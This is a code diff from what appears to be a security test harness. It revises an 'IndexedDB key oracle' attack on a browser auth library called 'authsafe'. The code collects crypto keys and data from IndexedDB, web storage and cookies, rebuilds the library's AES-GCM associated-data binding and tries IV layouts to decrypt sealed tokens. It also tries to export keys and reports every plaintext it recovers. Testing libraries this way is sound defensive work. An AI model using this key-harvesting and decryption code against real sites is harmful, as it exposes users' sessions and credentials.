@@ -54,22 +54,22 @@ const reads = {
   async "T4 IndexedDB key oracle"(attack) {
     const keys = [];
     const boxes = [];
+    const texts = [];
     const collect = (value, name) => {
       if (value instanceof RealKey) {
         keys.push(value);
         report(attack, value);
-      } else if (value instanceof ArrayBuffer || isView(value)) boxes.push([value, name]);
-      else if (typeof value === "string")
-        boxes.push([fromBase64(value), name], ...pieces(value).map((one) => [one, name]));
+      } else if (value instanceof ArrayBuffer || isView(value)) boxes.push(value);
+      else if (typeof value === "string") texts.push([value, name]);
       else if (value && typeof value === "object") for (const one of Object.values(value)) collect(one, name);
     };
-    for (const [name, records] of await databases())
-      for (const [key, value] of records) collect(value, `${name} ${key}`);
+    for (const [, records] of await databases()) for (const [key, value] of records) collect(value, key);
     for (const area of [localStorage, sessionStorage])
       for (const [key, value] of Object.entries(area)) collect(value, key);
-    for (const pair of document.cookie.split("; ")) collect(pair.slice(pair.indexOf("=") + 1), pair.split("=")[0]);
+    for (const [name, text] of cookieTexts()) collect(text, name);
     for (const key of keys) {
-      for (const [box, name] of boxes) for (const clear of await decrypt(key, box, boxes, name)) report(attack, clear);
+      const clear = [...(await openTexts(key, texts)), ...(await openBoxes(key, boxes))];
+      for (const plain of clear) report(attack, plain);
       const out = await crypto.subtle.exportKey("jwk", key).catch(() => undefined);
       if (out) report(attack, JSON.stringify(out));
     }
@@ -114,35 +114,67 @@ function settled(request) {
   });
 }
 
+/** Cookies by name; those that are parts of one text, together. */
+function cookieTexts() {
+  const all = new Map();
+  for (const pair of document.cookie.split("; ")) {
+    const name = pair.split("=")[0];
+    const value = decodeURIComponent(pair.slice(name.length + 1));
+    const whole = name.replace(/[.-]?\d+$/, "");
+    for (const one of new RealSet([name, whole])) all.set(one, (all.get(one) ?? "") + value);
+  }
+  return all;
+}
+
+/** Sealed texts of authsafe: how they are bound to their place is no secret, as it is written in the source. */
+async function openTexts(key, texts) {
+  const clear = [];
+  const { oidc, firstParty } = app()?.options ?? {};
+  const login = firstParty?.endpoints?.login;
+  const servers = [
+    `${oidc ? `${oidc.issuer}\n${oidc.clientId}` : ""}\n${login ? new URL(login.url ?? login, firstParty.baseUrl).href : ""}`,
+    "",
+  ];
+  for (const [text, name] of texts) {
+    const { kid, n, iv, ct } = Object(await within(100, () => JSON.parse(text)));
+    if (!ct) continue;
+    for (const server of servers) {
+      for (const record of [name, name.split("/").at(-1)]) {
+        const parts = ["authsafe sealed 2", origin, server, record, kid, String(n)];
+        const bound = parts.map((part) => `${new TextEncoder().encode(part).length}:${part}`).join("");
+        const algorithm = { name: "AES-GCM", iv: fromBase64(iv), additionalData: new TextEncoder().encode(bound) };
+        await decrypt(algorithm, key, fromBase64(ct), clear);
+      }
+    }
+  }
+  return clear;
+}
+
+/** AES-GCM as it is mostly laid out: the initialization vector before the ciphertext, or in a field of its own. */
+async function openBoxes(key, boxes) {
+  const clear = [];
+  const all = boxes.map((box) => new Bytes(box.buffer ?? box, box.byteOffset ?? 0, box.byteLength));
+  for (const bytes of all) {
+    for (const iv of all.filter(({ length }) => length === 12))
+      await decrypt({ name: "AES-GCM", iv }, key, bytes, clear);
+    for (const at of [0, 1, 2, 4, 5, 8]) {
+      await decrypt({ name: "AES-GCM", iv: bytes.slice(at, at + 12) }, key, bytes.slice(at + 12), clear);
+    }
+  }
+  return clear;
+}
+
+function decrypt(algorithm, key, bytes, clear) {
+  return crypto.subtle.decrypt(algorithm, key, bytes).then(
+    (plain) => clear.push(plain),
+    () => {},
+  );
+}
+
 function fromBase64(text) {
   try {
     return Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (char) => char.charCodeAt(0));
   } catch {
     return new Uint8Array();
   }
-}
-
-const pieces = (text) => (text.match(/[A-Za-z0-9+/_-]{16,}={0,2}/g) ?? []).map(fromBase64);
-
-/** AES-GCM with the usual layouts: the initialization vector before the ciphertext, or in a field of its own. */
-async function decrypt(key, box, boxes, name) {
-  const bytes = new Uint8Array(box.buffer ?? box, box.byteOffset ?? 0, box.byteLength);
-  const vectors = boxes.filter(([one]) => one.byteLength === 12).map(([one]) => [one, bytes]);
-  for (const at of [0, 1, 2, 4, 5, 8]) vectors.push([bytes.slice(at, at + 12), bytes.slice(at + 12)]);
-  const clear = [];
-  for (const [iv, data] of vectors) {
-    for (const additionalData of [undefined, ...additional(name, bytes)]) {
-      const algorithm = { name: "AES-GCM", iv, ...(additionalData && { additionalData }) };
-      await crypto.subtle.decrypt(algorithm, key, data).then(
-        (plain) => clear.push(plain),
-        () => {},
-      );
-    }
-  }
-  return clear;
-}
-
-/** What a client binds a record to is no secret: it is written in its source. */
-function additional() {
-  return [];
 }
